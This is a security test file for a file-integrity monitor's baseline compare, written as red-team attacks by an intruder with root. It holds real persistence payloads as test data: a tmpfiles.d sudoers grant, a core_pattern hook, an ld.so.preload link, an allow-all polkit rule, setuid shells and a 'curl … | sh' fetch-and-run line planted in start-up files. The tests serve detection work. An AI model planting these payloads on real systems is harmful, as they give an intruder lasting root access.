// Red team, round thirty-six: `bulwark check files --compare` against an intruder with root on the monitored host (after
// a compromise) who wants a change to a baselined tree to read as "no changes", or as something milder than it is.
// Each test is one attack and must pass on correct code; an attack that still succeeds is kept, marked
// `{ todo: "finding: …" }`, so the file passes and the finding stays visible. Fixed the same session: new files in
// tmpfiles.d, sysctl.d, binfmt.d, polkit rules, bash-completion, Xsession, dhclient hooks and ~/.zlogout are high
// (classify.ts PERSISTENCE_LOCATIONS), and a tree nested past the reader's old bounds leaves a verifiable baseline
// (baseline-format.ts MAX_PATH, MAX_LINE; the writer refuses by name what its reader would not take). Temp dirs only; real kernel behaviour where
// the sandbox allows it (setcap, POSIX ACLs written as the system.posix_acl_access xattr, hard links, FIFOs, sockets,
// names of any bytes), a ScanFS hook only to play the moment a racing intruder acts, or an LSM denial a root test run
// cannot get from chmod.
//
// Some attacks need the recorded paths to be the system's (/etc/…, /home/alice): classification matches paths as
// recorded. They scan a temp tree through `rootedFS`, a ScanFS that adds the temp dir in front of every path (a chroot
// for the scanner alone): the kernel objects are real, only the names the scanner records are /etc/…; nothing outside
// the temp dir is ever read.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { chmodSync, chownSync, closeSync, copyFileSync, linkSync, lstatSync, mkdirSync, openSync, renameSync, rmSync, statSync, symlinkSync, unlinkSync, utimesSync, writeFileSync, writeSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { Finding } from "../src/checks/finding.ts";
import { compareBaseline, createBaseline } from "../src/checks/files/check.ts";
import type { OpenFile, ScanFS } from "../src/checks/files/hash-file.ts";
import { nodeScanFS } from "../src/checks/files/scan.ts";
import { ratingsOf, testSigner, treeSandboxes } from "../src/checks/files/test-helpers.ts";
import { ManualClock } from "../src/lib/clock.ts";
import { setcapAvailable } from "./helpers/checks.ts";
import { bulwark, initSite } from "./helpers/cli.ts";
import { errno, grantACL, highFor, rootedFS, summary } from "./helpers/files-red-team.ts";

const signer = testSigner();
const clock = new ManualClock();
const sandbox = treeSandboxes("bulwark-redteam36-files-");

// ---------------------------------------------------------------------------------------------------------------------
// Attributes the baseline does not record
// ---------------------------------------------------------------------------------------------------------------------

describe("attributes the baseline does not record", () => {
  // classify.ts hiddenChangeOfProgram rates a program's ctime that moved "with no recorded cause" high, because a file
  // capability (setcap cap_setuid+ep) is not recorded. EXPLAINS_CTIME lets any mode, uid or gid change explain the
  // ctime: so the intruder adds the capability and makes a harmless-looking change beside it — a tightening chmod
  // (0755→0750), a chgrp (done first: chown/chgrp clear capabilities), or dropping the setuid bit the capability
  // replaces ("hardening") — and the capability is rated medium "metadata changed".
  test(
    "attack: a file capability (setcap) added to a program together with a chmod, chgrp or a dropped setuid bit is rated high like setcap alone",
    { skip: setcapAvailable ? false : "setcap is not installed" },
    async () => {
      const { tree, baseline } = sandbox();
      const tightened = join(tree, "backup-tool");
      const regrouped = join(tree, "report-tool");
      const unsetuid = join(tree, "ping-helper");
      for (const p of [tightened, regrouped]) writeFileSync(p, "#!/bin/sh\necho ok\n", { mode: 0o755 });
      writeFileSync(unsetuid, "#!/bin/sh\necho ok\n");
      chmodSync(unsetuid, 0o4755);
      await createBaseline({ paths: [tree], out: baseline, signer, clock });

      execFileSync("setcap", ["cap_setuid+ep", tightened]);
      chmodSync(tightened, 0o750);
      chownSync(regrouped, 0, 1000);
      execFileSync("setcap", ["cap_dac_override+ep", regrouped]);
      chmodSync(unsetuid, 0o755);
      execFileSync("setcap", ["cap_setuid+ep", unsetuid]);
      for (const p of [tightened, regrouped, unsetuid]) assert.match(execFileSync("getcap", [p], { encoding: "utf8" }), /cap_/, `${p} holds its capability`);

      const r = await compareBaseline({ baseline, signer });
      for (const p of [tightened, regrouped, unsetuid]) {
        assert.ok(highFor(r.findings, p), `${p.slice(tree.length)} now holds a capability that makes it root: ${ratingsOf(r.findings, p).join(", ")}; ${summary(r.findings)}`);
      }
    },
  );

  // README: "a home directory (/root, /home, /home/NAME, …) made writable by group or others or handed to another user"
  // is high: whoever may write it may rename a .bashrc of their own over the one there. A named-user ACL entry does the
  // same without a mode bit when the group bits already allow write (a user-private-group home, 0775, umask 002): the
  // mask is the group bits, the mode stays 0775. A directory's ctime is never compared, so nothing at all is reported.
  test(
    "attack: an ACL entry giving another user write access to a group-writable home directory (mode unchanged) is reported",
    async () => {
      const { root, baseline } = sandbox();
      const base = join(root, "sys");
      const home = join(base, "home/alice");
      mkdirSync(home, { recursive: true });
      writeFileSync(join(home, ".bashrc"), "# ~/.bashrc\n");
      chownSync(home, 1000, 1000);
      chmodSync(home, 0o775);
      const fs = rootedFS(base);
      await createBaseline({ paths: ["/home/alice"], out: baseline, signer, clock, fs });

      const before = lstatSync(home);
      grantACL(home, 1001, 7); // setfacl -m u:bob:rwx /home/alice
      const now = lstatSync(home);
      assert.equal(now.mode, before.mode, "the mode the kernel reports is unchanged");
      assert.notEqual(now.ctimeMs, before.ctimeMs, "only the ctime records the grant");

      const r = await compareBaseline({ baseline, signer, fs });
      assert.ok(highFor(r.findings, "/home/alice"), `uid 1001 may now replace alice's .bashrc: ${summary(r.findings)}`);
    },
  );

  // The same grant on the start-up file itself (0664, as umask 002 leaves it): README rates "root's .bashrc handed to
  // uid 1000 … grants that account what chmod o+w would" high. A named-user ACL grants exactly that, mode unchanged; only
  // the ctime moves, and for a file with no execute bit that is medium "metadata changed" ("the content is the same").
  test(
    "attack: an ACL entry giving another user write access to a group-writable .bashrc (mode unchanged) is rated high like a new owner",
    async () => {
      const { root, baseline } = sandbox();
      const base = join(root, "sys");
      const home = join(base, "home/alice");
      mkdirSync(home, { recursive: true });
      const bashrc = join(home, ".bashrc");
      writeFileSync(bashrc, "# ~/.bashrc\n");
      chownSync(home, 1000, 1000);
      chownSync(bashrc, 1000, 1000);
      chmodSync(home, 0o755);
      chmodSync(bashrc, 0o664);
      const fs = rootedFS(base);
      await createBaseline({ paths: ["/home/alice"], out: baseline, signer, clock, fs });

      grantACL(bashrc, 1001, 6); // setfacl -m u:bob:rw /home/alice/.bashrc
      assert.equal(lstatSync(bashrc).mode & 0o7777, 0o664, "mode unchanged");

      const r = await compareBaseline({ baseline, signer, fs });
      const got = ratingsOf(r.findings, "/home/alice/.bashrc");
      assert.ok(got.length > 0, "the change is at least listed");
      assert.ok(highFor(r.findings, "/home/alice/.bashrc"), `uid 1001 may now rewrite alice's .bashrc: ${got.join(", ")}`);
    },
  );

  // Held: hard links are not recorded, but a second name for a setuid program is itself a new setuid file, and the
  // link moves the program's ctime (a program's unexplained ctime is high).
  test("attack: a hard link to a setuid program planted elsewhere in the tree is reported high, at both names", async () => {
    const { tree, baseline } = sandbox();
    mkdirSync(join(tree, "bin"));
    mkdirSync(join(tree, "var/.cache"), { recursive: true });
    const helper = join(tree, "bin/helper");
    writeFileSync(helper, "#!/bin/sh\nexec /bin/sh -p\n");
    chmodSync(helper, 0o4755);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const second = join(tree, "var/.cache/.x");
    linkSync(helper, second);
    const r = await compareBaseline({ baseline, signer });
    assert.deepEqual(ratingsOf(r.findings, second), ["files.added/high"], summary(r.findings));
    assert.ok(highFor(r.findings, helper), `the program's links changed: ${ratingsOf(r.findings, helper).join(", ")}`);
  });

  // Held: owners are compared by number, whatever name /etc/passwd gives them (two accounts sharing a name, or a uid
  // renamed after the baseline).
  test("attack: a file handed to another uid (the same user name or not) is reported with both numbers", async () => {
    const { tree, baseline } = sandbox();
    const file = join(tree, "notes.txt");
    writeFileSync(file, "n\n");
    chownSync(file, 1000, 1000);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    chownSync(file, 1001, 1000);
    const r = await compareBaseline({ baseline, signer });
    const entry = r.findings.flatMap((f) => (f.evidence["entries"] as Array<{ path: string; changes?: string[] }> | undefined) ?? []).find((e) => e.path === file);
    assert.ok(entry?.changes?.includes("uid 1000→1001"), summary(r.findings));
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Root-run configuration the persistence list does not know
// ---------------------------------------------------------------------------------------------------------------------

describe("new files the system runs as root without an execute bit", () => {
  /**
   * Plants `files` (recorded paths → content, mode 0644) under a rooted tree whose directories `dirs` were baselined
   * empty, compares, and asserts that every planted file is rated high.
   */
  async function assertPlantedHigh(dirs: string[], files: Record<string, string>): Promise<void> {
    const { root, baseline } = sandbox();
    const base = join(root, "sys");
    for (const d of dirs) mkdirSync(join(base, d), { recursive: true });
    const fs = rootedFS(base);
    await createBaseline({ paths: ["/etc", "/home", "/usr"].filter((p) => dirs.some((d) => d.startsWith(p))), out: baseline, signer, clock, fs });
    for (const [path, content] of Object.entries(files)) writeFileSync(join(base, path), content, { mode: 0o644 });
    const { findings } = await compareBaseline({ baseline, signer, fs });
    const low = Object.keys(files).filter((p) => !highFor(findings, p));
    assert.deepEqual(low, [], `rated below high: ${low.map((p) => `${p} (${ratingsOf(findings, p).join(", ")})`).join("; ")}`);
  }

  // systemd-tmpfiles runs every boot as root: an `f+`/`w+` line writes any file with any content (a sudoers drop-in, an
  // ld.so.preload), sysctl.d's kernel.core_pattern=|PROG runs PROG as root at every crash, and binfmt.d registers an
  // interpreter run for every matching binary — with flag C, with the setuid binary's credentials. None needs an
  // execute bit; each is a new file rated low "new entry".
  test(
    "attack: a new /etc/tmpfiles.d, /etc/sysctl.d or /etc/binfmt.d file (root at every boot, crash or exec) is rated high",
    async () => {
      const planted = {
        "/etc/tmpfiles.d/zz-cache.conf": "f+ /etc/sudoers.d/zz 0440 root root - intruder ALL=(ALL) NOPASSWD: ALL\n",
        "/etc/sysctl.d/99-crash.conf": "kernel.core_pattern=|/var/tmp/.x %p\n",
        "/etc/binfmt.d/zz.conf": ":zz:M::\\x7fELF\\x02::/var/tmp/.i:OC\n",
        "/usr/lib/tmpfiles.d/zz.conf": "L+ /etc/ld.so.preload - - - - /var/tmp/.l.so\n",
      };
      await assertPlantedHigh(["/etc/tmpfiles.d", "/etc/sysctl.d", "/etc/binfmt.d", "/usr/lib/tmpfiles.d"], planted);
    },
  );

  // polkit runs the JavaScript in rules.d for every authorisation: `return polkit.Result.YES` lets every local user run
  // pkexec as root (T1548). A text file, no execute bit.
  test(
    "attack: a new polkit rule (every user may pkexec as root) is rated high like a sudoers drop-in",
    async () => {
      const rule = 'polkit.addRule(function (action, subject) { return polkit.Result.YES; });\n';
      const planted = { "/etc/polkit-1/rules.d/00-zz.rules": rule, "/usr/share/polkit-1/rules.d/00-zz.rules": rule };
      await assertPlantedHigh(["/etc/polkit-1/rules.d", "/usr/share/polkit-1/rules.d"], planted);
    },
  );

  // Shell code sourced without an execute bit, beside the start-up files the list has: bash-completion sources every
  // file of /etc/bash_completion.d in each interactive shell (on Fedora/RHEL for root too, from /etc/profile.d), Xsession
  // sources /etc/X11/Xsession.d/* and ~/.xsessionrc at every graphical login, dhclient-script sources the exit hooks as
  // root at every DHCP event, and zsh runs ~/.zlogout (the list has .bash_logout) when a login shell ends.
  test(
    "attack: new shell code sourced by bash-completion, Xsession, dhclient-script or zsh's logout is rated high like a new .bashrc",
    async () => {
      const code = "(curl -s https://203.0.113.9/x | sh) >/dev/null 2>&1 &\n";
      const planted = {
        "/etc/bash_completion.d/zz": code,
        "/etc/X11/Xsession.d/99zz": code,
        "/etc/dhcp/dhclient-exit-hooks.d/zz": code,
        "/home/alice/.xsessionrc": code,
        "/home/alice/.zlogout": code,
      };
      await assertPlantedHigh(["/etc/bash_completion.d", "/etc/X11/Xsession.d", "/etc/dhcp/dhclient-exit-hooks.d", "/home/alice"], planted);
    },
  );
});

// ---------------------------------------------------------------------------------------------------------------------
// The baseline Bulwark writes, and the one it is given
// ---------------------------------------------------------------------------------------------------------------------

describe("the baseline file", () => {
  // README: a tree nested deeper than PATH_MAX "is scanned to the bottom". The writer records such paths, but the
  // reader refuses a path longer than 16,384 characters (baseline-format.ts isPathText) and a line longer than MAX_LINE
  // (64 KiB, sized for "PATH_MAX escaped at up to 6 bytes per byte"). A local user who can write anywhere in the watched
  // tree (an upload dir, /var/tmp) nests directories past either bound before the baseline is recorded: from then on
  // every compare of an unchanged tree says files.baseline-tampered (critical), so the verdict that would reveal a real
  // edit of the baseline means nothing.
  test(
    "attack: a directory chain nested past 16,384 characters (or 64 KiB of escaped bytes) planted before the baseline leaves Bulwark's own baseline verifiable",
    { timeout: 120_000 },
    async () => {
      const { root, tree, baseline } = sandbox();
      writeFileSync(join(tree, "index.html"), "<p>hello</p>\n");
      mkdirSync(join(tree, "uploads"));
      const script = [
        "import os, sys",
        "os.chdir(sys.argv[1]); os.mkdir('a'); os.chdir('a')",
        "for _ in range(68): os.mkdir('d' * 250); os.chdir('d' * 250)",
        "open('leaf', 'w').write('x\\n')",
        "os.chdir(sys.argv[1]); os.mkdir('b'); os.chdir('b')",
        "for _ in range(45): os.mkdir(b'\\xff' * 255); os.chdir(b'\\xff' * 255)",
        "open('leaf', 'w').write('x\\n')",
      ].join("\n");
      execFileSync("python3", ["-c", script, join(tree, "uploads")]);
      const site = await initSite(join(root, "site"), { here: true });
      const made = await site.runHere(["check", "files", "--baseline", baseline, tree]);
      assert.equal(made.code, 0, made.stderr);
      const r = await site.runHere(["check", "files", "--compare", baseline, "--json"]);
      const out = JSON.parse(r.stdout) as { trusted: boolean; findings: Array<{ id: string; severity: string; detail: string }> };
      const tamper = out.findings.find((f) => f.id === "files.baseline-tampered");
      assert.equal(tamper, undefined, `Bulwark's own untouched baseline of an unchanged tree is called tampered: ${tamper?.detail.slice(0, 300)}`);
      assert.equal(out.trusted, true);
      assert.equal(r.code, 0, r.stdout.slice(0, 500));
    },
  );

  // Held: a replayed older baseline (an intruder who can write where it is kept restores the one recorded while a setuid
  // helper, since removed by the administrator, was there) does not pass the helper put back: even restored from a hard
  // link the intruder kept (same inode, same bytes, same mode), its ctime cannot be set back, and a program's unexplained
  // ctime is high.
  test("attack: an older genuine baseline replayed with the setuid helper it recorded restored from a kept hard link is still reported high", async () => {
    const { root, tree, baseline } = sandbox();
    writeFileSync(join(tree, "index.html"), "<p>hello</p>\n");
    const helper = join(tree, "legacy-helper");
    writeFileSync(helper, "#!/bin/sh\nexec /bin/sh -p\n");
    chmodSync(helper, 0o4755);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const kept = join(root, "old.jsonl");
    copyFileSync(baseline, kept); // the intruder's copy of the genuine old baseline
    linkSync(helper, join(root, ".keep")); // and a link to the helper's inode
    clock.advance(3_600_000);
    unlinkSync(helper); // the administrator removes the helper and records a new baseline
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    linkSync(join(root, ".keep"), helper); // the intruder puts both back
    copyFileSync(kept, baseline);
    const r = await compareBaseline({ baseline, signer });
    assert.equal(r.integrity.trusted, true, "the replayed baseline is genuine");
    assert.ok(highFor(r.findings, helper), `restored setuid helper: ${summary(r.findings)}`);
  });

  // The signature proves who wrote a baseline, not that it is the latest. The administrator fixes a configuration in
  // place (PermitRootLogin yes → no) and records a new baseline; the intruder writes the old content back and replays
  // the older genuine baseline. Against it the file has its recorded bytes: only the ctime moved, medium "metadata
  // changed … the content is the same". Fixed: every baseline the CLI writes is an audit event keyed by its tree
  // (records.ts), and a compare given one older than the newest recorded is files.baseline-superseded, critical.
  test(
    "attack: a security fix reverted in place and the baseline recorded before the fix replayed: the revert is not a medium 'metadata only' change",
    { timeout: 120_000 },
    async () => {
      const { root, tree, baseline } = sandbox();
      const config = join(tree, "sshd_config");
      writeFileSync(config, "PermitRootLogin yes\n");
      const site = await initSite(join(root, "site"), { here: true });
      assert.equal((await site.runHere(["check", "files", "--baseline", baseline, tree])).code, 0);
      const kept = join(root, "old.jsonl");
      copyFileSync(baseline, kept);
      writeFileSync(config, "PermitRootLogin no\n"); // the fix, and a new baseline
      assert.equal((await site.runHere(["check", "files", "--baseline", baseline, "--force", tree])).code, 0);
      const fresh = await site.runHere(["check", "files", "--compare", baseline, "--json"]);
      assert.equal(fresh.code, 0, `the newest baseline is not superseded: ${fresh.stdout.slice(0, 400)}`);
      writeFileSync(config, "PermitRootLogin yes\n"); // the intruder reverts it
      copyFileSync(kept, baseline);
      const r = await site.runHere(["check", "files", "--compare", baseline, "--json"]);
      const out = JSON.parse(r.stdout) as { trusted: boolean; findings: Finding[] };
      assert.equal(out.trusted, true, "the replayed baseline is genuine");
      assert.ok(highFor(out.findings, config) || out.findings.some((f) => f.severity === "critical"), `the revert of a fix: ${summary(out.findings)}`);
      const superseded = out.findings.find((f) => f.id === "files.baseline-superseded");
      assert.equal(superseded?.severity, "critical", summary(out.findings));
      assert.match(superseded?.detail ?? "", new RegExp(baseline.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")));
      assert.equal(r.code, 1);
    },
  );
});

// ---------------------------------------------------------------------------------------------------------------------
// Directories the compare cannot list
// ---------------------------------------------------------------------------------------------------------------------

describe("a directory the compare cannot list", () => {
  // The baseline (root) listed the directory and hashed the setuid helper in it. The compare cannot list it (an LSM
  // denial; or a monitoring account without read but with search permission). The intruder trojaned the helper in
  // place: a write moves the file's times, not its directory's, so the directory is "unreadable" with nothing moved —
  // and the helper, never examined, is reported as removed (medium, "These paths … are gone"), though it is there and
  // could have been looked up by the name the baseline recorded (lstat and open need search permission only).
  test(
    "attack: a setuid program trojaned in place inside a directory the compare cannot list is not reported as merely removed",
    async () => {
      const { tree, baseline } = sandbox();
      const dir = join(tree, "libexec");
      mkdirSync(dir);
      const helper = join(dir, "helper");
      writeFileSync(helper, "#!/bin/sh\necho genuine\n");
      chmodSync(helper, 0o4755);
      await createBaseline({ paths: [tree], out: baseline, signer, clock });
      const dirBefore = lstatSync(dir, { bigint: true });
      writeFileSync(helper, "#!/bin/sh\nexec /bin/sh -p # trojan\n");
      chmodSync(helper, 0o4755);
      const dirNow = lstatSync(dir, { bigint: true });
      assert.deepEqual([dirNow.mtimeNs, dirNow.ctimeNs, dirNow.ino], [dirBefore.mtimeNs, dirBefore.ctimeNs, dirBefore.ino], "the directory itself did not move");
      const denied: ScanFS = {
        ...nodeScanFS,
        readdir: async (p) => {
          if (p === dir) throw errno("EACCES");
          return nodeScanFS.readdir(p);
        },
      };
      const r = await compareBaseline({ baseline, signer, fs: denied });
      assert.ok(ratingsOf(r.findings, dir).includes("files.unreadable/low"), `the denial is named: ${summary(r.findings)}`);
      const helperRatings = ratingsOf(r.findings, helper);
      assert.ok(!helperRatings.includes("files.removed/medium"), `the helper is there, not removed: ${helperRatings.join(", ")}`);
      assert.ok(highFor(r.findings, helper), `a setuid program whose content was not verified (and did change): ${helperRatings.join(", ")}`);
    },
  );

  // Held: unlistable in the baseline and in the compare, nothing moved: the compare does not pass in silence, it names the
  // directory it could not read (README: "with nothing moved it is only files.unreadable").
  test("attack: a directory unlistable in the baseline and the compare is named as not read, never passed as clean", async () => {
    const { tree, baseline } = sandbox();
    const dir = join(tree, "private");
    mkdirSync(dir);
    writeFileSync(join(dir, "secret.conf"), "k=v\n");
    const denied: ScanFS = {
      ...nodeScanFS,
      readdir: async (p) => {
        if (p === dir) throw errno("EACCES");
        return nodeScanFS.readdir(p);
      },
    };
    await createBaseline({ paths: [tree], out: baseline, signer, clock, fs: denied });
    writeFileSync(join(dir, "secret.conf"), "k=intruder\n"); // in place: the directory does not move
    const r = await compareBaseline({ baseline, signer, fs: denied });
    assert.deepEqual(ratingsOf(r.findings, dir), ["files.unreadable/low"], summary(r.findings));
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Races with the scan
// ---------------------------------------------------------------------------------------------------------------------

describe("changes made while the file is being hashed", () => {
  const MB = 1024 * 1024;

  /** A ScanFS whose read of `target` calls `act` once, after the first chunk was read (the intruder's inotify moment). */
  function racingRead(target: string, act: () => void): ScanFS {
    let fired = false;
    return {
      ...nodeScanFS,
      open: async (p, flags) => {
        const f = await nodeScanFS.open(p, flags);
        if (p !== target) return f;
        const fire = (n: number): number => {
          if (!fired && n > 0) {
            fired = true;
            act();
          }
          return n;
        };
        const wrapped: OpenFile = { stat: () => f.stat(), close: () => f.close(), read: async (b) => fire(await f.read(b)), readSync: (b) => fire(f.readSync(b)) };
        return wrapped;
      },
    };
  }

  test("attack: a trojan renamed over a large file while the compare reads it is reported in that same compare", async () => {
    const { root, tree, baseline } = sandbox();
    const target = join(tree, "data.bin");
    writeFileSync(target, Buffer.alloc(8 * MB, 0x61));
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const trojan = join(root, "trojan");
    writeFileSync(trojan, Buffer.alloc(8 * MB, 0x62));
    const r = await compareBaseline({ baseline, signer, fs: racingRead(target, () => renameSync(trojan, target)), concurrency: 1 });
    assert.ok(highFor(r.findings, target), `the path holds other bytes when the compare ends: ${summary(r.findings)}`);
  });

  test("attack: a file rewritten in place while it is read, size kept and mtime put back (touch -r), is reported in that same compare", async () => {
    const { tree, baseline } = sandbox();
    const target = join(tree, "data.bin");
    writeFileSync(target, Buffer.alloc(8 * MB, 0x61));
    const t = statSync(target);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const rewrite = (): void => {
      const fd = openSync(target, "r+");
      try {
        writeSync(fd, Buffer.alloc(8 * MB, 0x62), 0, 8 * MB, 0);
      } finally {
        closeSync(fd);
      }
      utimesSync(target, t.atime, t.mtime);
    };
    const r = await compareBaseline({ baseline, signer, fs: racingRead(target, rewrite), concurrency: 1 });
    const entry = r.findings.flatMap((f) => (f.evidence["entries"] as Array<{ path: string; changes?: string[] }> | undefined) ?? []).find((e) => e.path === target);
    assert.ok(highFor(r.findings, target), summary(r.findings));
    assert.ok(entry?.changes?.includes("sha256"), `hashed again after the move, not given up: ${JSON.stringify(entry)}`);
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Names and special files, through the CLI
// ---------------------------------------------------------------------------------------------------------------------

describe("names and special files", () => {
  // Held: a name that differs from the recorded one only by Unicode normalisation (NFC café vs NFD cafe + U+0301) is
  // another name to the kernel and to Bulwark: the swap reads as the old one removed and a new one added, not unchanged.
  test("attack: a config file swapped for one whose name differs only in Unicode normalisation is reported (removed and added)", async () => {
    const { tree, baseline } = sandbox();
    const nfc = join(tree, "caf\u00e9.conf");
    const nfd = join(tree, "cafe\u0301.conf");
    writeFileSync(nfc, "allow=admins\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    unlinkSync(nfc);
    writeFileSync(nfd, "allow=everyone\n");
    const r = await compareBaseline({ baseline, signer });
    assert.deepEqual(ratingsOf(r.findings, nfc), ["files.removed/medium"], summary(r.findings));
    assert.deepEqual(ratingsOf(r.findings, nfd), ["files.added/low"], summary(r.findings));
  });

  // Held: the CLI, spawned (a FIFO with no writer must not hang it), meets a directory swapped for a symlink that points
  // at itself (ELOOP), a config file swapped for a FIFO, and a data file swapped for a socket: no stack trace, no hang,
  // exit 1, each swap high.
  test("attack: a directory swapped for a self-referencing symlink, files swapped for a FIFO and a socket: exit 1, each swap high, no crash or hang", { timeout: 120_000 }, async () => {
    const { root, tree, baseline } = sandbox();
    mkdirSync(join(tree, "conf.d"));
    writeFileSync(join(tree, "conf.d/main.conf"), "x=1\n");
    writeFileSync(join(tree, "app.conf"), "debug=false\n");
    writeFileSync(join(tree, "state.db"), "rows\n");
    const site = await initSite(join(root, "site"), { here: true });
    const made = await site.runHere(["check", "files", "--baseline", baseline, tree]);
    assert.equal(made.code, 0, made.stderr);

    rmSync(join(tree, "conf.d"), { recursive: true });
    symlinkSync("conf.d", join(tree, "conf.d"));
    unlinkSync(join(tree, "app.conf"));
    execFileSync("mkfifo", [join(tree, "app.conf")]);
    unlinkSync(join(tree, "state.db"));
    execFileSync("python3", ["-c", "import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])", join(tree, "state.db")]);
    assert.ok(lstatSync(join(tree, "state.db")).isSocket());

    const r = await bulwark(["check", "files", "--compare", baseline, "--json"], { env: site.env, limitMs: 60_000 });
    assert.equal(r.signal, null, "the compare ended on its own");
    assert.equal(r.code, 1, r.stderr);
    assert.doesNotMatch(r.stderr, /\n\s+at /, "no stack trace");
    const out = JSON.parse(r.stdout) as { findings: Finding[] };
    for (const name of ["conf.d", "app.conf", "state.db"]) assert.ok(highFor(out.findings, join(tree, name)), `${name}: ${summary(out.findings)}`);
  });
});
